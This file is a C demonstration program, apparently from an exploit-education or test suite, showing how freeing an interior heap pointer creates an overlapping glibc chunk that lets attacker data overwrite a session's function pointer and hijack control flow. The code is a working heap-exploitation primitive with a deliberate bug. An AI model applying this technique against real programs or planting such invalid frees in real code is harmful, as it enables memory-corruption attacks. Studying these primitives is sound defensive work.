/* Free of an interior pointer to make an overlapping chunk: an error path frees the packet
 * body (buf + header) instead of buf; the attacker's packet holds a fake chunk size right
 * before the body, so the freed "chunk" lies inside the live buffer and the next allocation
 * of that size overlaps attacker-controlled memory.
 * Published: house of spirit (Malloc Maleficarum, 2005; how2heap tcache_house_of_spirit.c)
 * applied to a heap interior pointer; MITRE CWE-761 (free of pointer not at start of buffer).
 * Primitive: invalid free (interior pointer) -> overlapping chunks -> control flow. */
#include <string.h>
#include "common.h"

struct session { void (*on_event)(struct session *); long id; char user[24]; };

static void log_event(struct session *s) { printf("event for session %ld\n", s->id); }
static void attacker(struct session *s) {
    (void)s;
    printf("ATTACK SUCCEEDED: overlapping session reached attacker()\n");
}

int main(void) {
    test_init();
    printf("interior free: free(buf + header) creates an overlapping chunk\n");
    enum { HDR = 32 };
    unsigned char *buf = malloc(256);
    unsigned char packet[256] = {0};
    unsigned long fake_size = 0x31; /* chunk size 0x30 (a session), in use bit */
    memcpy(packet + HDR - 8, &fake_size, sizeof fake_size);
    memcpy(buf, packet, sizeof packet); /* attacker's first packet */
    unsigned char *body = buf + HDR;
    print_ptr("victim", body);
    free(body); /* BUG: should be free(buf) */
    struct session *s = malloc(sizeof *s); /* lands inside buf under glibc */
    s->on_event = log_event;
    s->id = 42;
    void (*fn)(struct session *) = attacker;
    memcpy(buf + HDR, &fn, sizeof fn); /* attacker's next packet, copied into buf */
    s->on_event(s);
    printf("attack failed\n");
    return 0;
}
